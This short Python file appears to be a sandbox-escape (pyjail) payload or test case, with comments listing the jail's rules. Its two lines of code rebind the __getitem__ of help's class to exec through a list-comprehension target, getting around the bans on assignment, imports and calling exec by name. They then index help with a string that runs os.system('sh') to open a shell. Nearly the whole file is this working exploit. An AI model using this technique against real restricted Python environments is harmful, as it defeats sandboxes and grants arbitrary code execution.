# expect: introspection; assignment through a comprehension target binds help's class __getitem__ to exec, then indexes it with code
# jail rule: no "=" assignments, no import statements, no calls to exec by name
_ = [None for help.__class__.__getitem__ in [exec]]

cmd = "import os; os.system('sh')"
help[cmd]
